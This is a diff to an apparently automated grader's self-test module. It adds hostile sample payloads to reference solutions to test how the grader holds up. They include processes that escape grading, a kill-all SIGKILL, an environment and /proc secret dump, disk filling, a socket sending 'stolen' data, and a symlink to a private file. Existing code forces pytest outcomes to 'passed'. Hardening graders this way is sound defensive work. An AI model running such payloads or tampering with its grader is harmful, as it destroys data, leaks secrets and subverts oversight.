@@ -12,7 +12,7 @@ from pathlib import Path
 
 from selftests.bugs import SOLUTIONS
 
-# A marker the attacks write their pids and attempts to, set by the test.
+# Where the attacks write what they managed (set by the test); __MARK__ and __PORT__ are filled in too.
 EVIDENCE_DIR = "__EVIDENCE_DIR__"
 
 
@@ -25,12 +25,14 @@ class Attack:
     may_lose: frozenset[str]  # components allowed to lose points
     description: str
 
-    def materialize(self, dest: Path, evidence: Path) -> Path:
+    def materialize(self, dest: Path, evidence: Path, mark: str = "", port: int = 9) -> Path:
+        """The reference with this attack; `mark` (digits) names what it leaves behind, `port` a server it calls."""
         shutil.copytree(SOLUTIONS, dest, ignore=shutil.ignore_patterns("__pycache__"))
         path = dest / self.file
         source = path.read_text()
         assert source.count(self.old) == 1, f"{self.name}: snippet must occur once in {self.file}"
-        path.write_text(source.replace(self.old, self.new.replace(EVIDENCE_DIR, str(evidence))))
+        new = self.new.replace(EVIDENCE_DIR, str(evidence)).replace("__MARK__", mark).replace("__PORT__", str(port))
+        path.write_text(source.replace(self.old, new))
         return dest
 
 
@@ -38,6 +40,7 @@ SPLIT = '    return rearrange(x, "b t (h d) -> b h t d", h=n_heads)\n'
 SCORES = "    return q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))\n"
 FUTURE = "from __future__ import annotations\n"
 POSITIONAL_HEAD = '"""Sinusoidal positional encoding (reference solution)."""\n' + FUTURE
+ENCODING_DOC = '    """float32 (max_len, d_model): PE[p, 2i] = sin(p / 10000^(2i/d)), PE[p, 2i+1] = cos(...)."""\n'
 ATTENTION_HEAD = '"""Scaled dot-product and multi-head attention (reference solution)."""\n' + FUTURE
 
 ATTACKS = [
@@ -83,15 +86,62 @@ ATTACKS = [
            frozenset(), "split_heads prints 50 MB (and is otherwise correct)"),
     Attack("stray_process", "positional.py", POSITIONAL_HEAD, POSITIONAL_HEAD +
            "import os, subprocess\n"
-           "_p = subprocess.Popen(['sleep', '300'], start_new_session=True)\n"
-           "open(os.path.join('" + EVIDENCE_DIR + "', f'pid-{_p.pid}'), 'w').close()\n"
+           "subprocess.Popen(['sleep', '__MARK__1'], start_new_session=True)\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
-           "    open(os.path.join('" + EVIDENCE_DIR + "', f'pid-{os.getpid()}'), 'w').close()\n"
-           "    import time\n"
-           "    time.sleep(300)\n"
-           "    os._exit(0)\n",
+           "    os.execv('/bin/sleep', ['sleep', '__MARK__2'])\n",
            frozenset(), "positional.py starts background processes that try to outlive grading"),
+    Attack("pid_hopper", "positional.py", POSITIONAL_HEAD, POSITIONAL_HEAD +
+           "import ctypes, os\n"
+           "if os.fork() == 0:\n"
+           "    os.setsid()\n"
+           "    ctypes.CDLL(None).prctl(15, b'hop__MARK__', 0, 0, 0)\n"
+           "    while True:\n"
+           "        if os.fork():\n"
+           "            os._exit(0)\n",
+           frozenset(), "positional.py leaves a process that forks and exits over and over (a new pid each time)"),
+    Attack("kill_everything", "attention.py", SCORES,
+           "    import os, signal\n    os.kill(-1, signal.SIGKILL)\n" + SCORES,
+           frozenset({"scaling"}), "attention_scores sends SIGKILL to every process it may signal"),
+    Attack("environment", "positional.py", ENCODING_DOC, ENCODING_DOC +
+           "    import os\n"
+           "    text = repr(dict(os.environ))\n"
+           "    for path in ('/proc/self/environ', '/proc/1/environ', f'/proc/{os.getppid()}/environ'):\n"
+           "        try:\n"
+           "            text += open(path, 'rb').read().decode('latin1')\n"
+           "        except OSError:\n"
+           "            pass\n"
+           "    raise ValueError(text)\n",
+           frozenset({"sinusoidal_encoding"}), "the encoding fails with the environment in its message"),
+    Attack("fill_tmp", "positional.py", POSITIONAL_HEAD, POSITIONAL_HEAD +
+           "import os\n"
+           "for _folder in ('/tmp', '/dev/shm', os.path.expanduser('~')):\n"
+           "    try:\n"
+           "        with open(os.path.join(_folder, 'fill__MARK__'), 'wb') as _f:\n"
+           "            for _ in range(256):\n"
+           "                _f.write(b'x' * (1 << 20))\n"
+           "    except OSError:\n"
+           "        pass\n",
+           frozenset(), "positional.py writes 256 MB to /tmp, /dev/shm and the home folder and leaves it there"),
+    Attack("network", "positional.py", POSITIONAL_HEAD, POSITIONAL_HEAD +
+           "import socket\n"
+           "try:\n"
+           "    socket.create_connection(('127.0.0.1', __PORT__), timeout=2).sendall(b'stolen')\n"
+           "except OSError:\n"
+           "    pass\n",
+           frozenset(), "positional.py connects to a server on the grading machine"),
+    Attack("write_everywhere", "positional.py", POSITIONAL_HEAD, POSITIONAL_HEAD +
+           "import os\n"
+           "for _root in ('" + str(SOLUTIONS.parent) + "', '/tmp'):\n"
+           "    for _dir, _dirs, _files in os.walk(_root):\n"
+           "        for _name in _files:\n"
+           "            if _name.endswith(('.py', '.json', '.yml')):\n"
+           "                try:\n"
+           "                    open(os.path.join(_dir, _name), 'a').close()\n"
+           "                    open(os.path.join('" + EVIDENCE_DIR + "', 'wrote'), 'a').write(os.path.join(_dir, _name))\n"
+           "                except OSError:\n"
+           "                    pass\n",
+           frozenset(), "positional.py opens every check, course file and results file it can find for writing"),
 ]
 
 
@@ -107,4 +157,17 @@ def conftest_attack(dest: Path) -> Path:
             "    report.outcome = 'passed'\n")
     (dest / "conftest.py").write_text(hook)
     (dest / "test_fake.py").write_text("def test_split_heads_layout():\n    pass\n")
+    return dest
+
+
+def unreadable_files_attack(dest: Path, secret: Path) -> Path:
+    """The reference with kv_cache.py a symbolic link, positional.py a FIFO, and a link to a private file."""
+    import os
+
+    shutil.copytree(SOLUTIONS, dest, ignore=shutil.ignore_patterns("__pycache__"))
+    (dest / "kv_cache.py").unlink()
+    (dest / "kv_cache.py").symlink_to(SOLUTIONS / "kv_cache.py")
+    (dest / "positional.py").unlink()
+    os.mkfifo(dest / "positional.py")
+    (dest / "notes.txt").symlink_to(secret)
     return dest
